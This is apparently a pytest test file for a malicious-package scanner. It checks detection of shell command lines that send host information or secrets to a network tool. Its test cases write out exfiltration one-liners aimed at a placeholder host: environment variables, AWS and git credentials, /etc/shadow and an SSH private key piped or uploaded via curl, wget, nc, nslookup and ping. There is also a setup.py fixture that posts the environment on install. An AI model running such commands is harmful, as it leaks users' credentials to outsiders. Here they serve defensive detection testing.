"""Data flows inside one shell command line (scan/shellflow.py), and what the scanner
makes of them in install, import and runtime code."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipwarden.scan import scan_target
from pipwarden.scan.shellflow import sent

URL = "https://example.invalid/c"


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        # a pipe into a tool that sends its input
        (f"env | curl -X POST --data-binary @- {URL}", "secret"),
        (f"printenv | base64 | curl -d @- {URL}", "secret"),
        (f"cat ~/.aws/credentials | base64 | curl -d @- {URL}", "secret"),
        (f"git credential fill < /dev/null | curl -T - {URL}", "secret"),
        ("whoami | nc example.invalid 4444", "host"),
        (f"hostname | wget --post-file=/dev/stdin {URL}", "host"),
        (f"echo $USER | curl -d @- {URL}", "host"),
        # a file written by one command and uploaded by the next
        (f"whoami > /tmp/x; curl -d @/tmp/x {URL}", "host"),
        (f"env > /tmp/e && curl -F f=@/tmp/e {URL}", "secret"),
        (f"id | tee /tmp/i; wget --post-file=/tmp/i {URL}", "host"),
        (f"wget --post-file=/etc/passwd {URL}", "host"),
        (f"curl -T /etc/shadow {URL}", "secret"),
        # substitutions and variables in the tool's own arguments
        (f"curl {URL}/$(whoami)", "host"),
        (f"curl -s {URL}/`hostname`", "host"),
        ("nslookup $(whoami).example.invalid", "host"),
        ("ping -c 1 `id -un`.example.invalid", "host"),
        (f"curl {URL}?u=$USER", "host"),
        ("ping -n 1 %COMPUTERNAME%.example.invalid", "host"),
        (f"curl {URL}/$(cat ~/.ssh/id_rsa | base64 -w0)", "secret"),
    ],
)
def test_data_reaching_a_network_tool(line: str, kind: str) -> None:
    assert sent(line) == kind


@pytest.mark.parametrize(
    "line",
    [
        f"curl -o out.tar.gz {URL}",
        f"curl -d @payload.json {URL}",  # a file no command of the line wrote
        "git describe --tags | sed s/v//",
        "uname -m > arch.txt",
        "whoami",
        "echo hello | nc example.invalid 80",
        f"whoami; curl {URL}",  # printed to the terminal, not sent
        f"hostname | curl {URL}",  # curl does not read its input here
        f"curl {URL}/$VERSION",
        "ssh $USER@example.invalid uptime",  # a login name, not a message
        "rsync -a build/ ${USER}@example.invalid:/srv/",
        "make && make install",
        "",
    ],
)
def test_no_data_reaching_a_network_tool(line: str) -> None:
    assert sent(line) is None


def _scan(tmp_path: Path, files: dict[str, str]) -> list[tuple[str, str]]:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    return [(f.rule, f.severity.label) for f in scan_target(tmp_path).findings]


def test_shell_exfiltration_by_execution_context(tmp_path: Path) -> None:
    """The same command line: high in code that runs on import, medium when called."""
    cmd = f"whoami > /tmp/x; curl -d @/tmp/x {URL}"
    found = _scan(
        tmp_path,
        {
            "pkg/__init__.py": "from . import utils\n",
            "pkg/utils.py": f"import os\nos.system({cmd!r})\n",
            "pkg/cli.py": f"import os\ndef main():\n    os.system({cmd!r})\n",
        },
    )
    assert found.count(("exfiltration.host-info", "high")) == 1
    assert found.count(("exfiltration.host-info", "medium")) == 1


def test_environment_piped_to_curl_in_setup_py_is_malicious(tmp_path: Path) -> None:
    cmd = f"env | curl -X POST --data-binary @- {URL}"
    found = _scan(
        tmp_path,
        {"setup.py": f"import os\nfrom setuptools import setup\nos.system({cmd!r})\nsetup()\n"},
    )
    assert ("exfiltration.credentials", "critical") in found
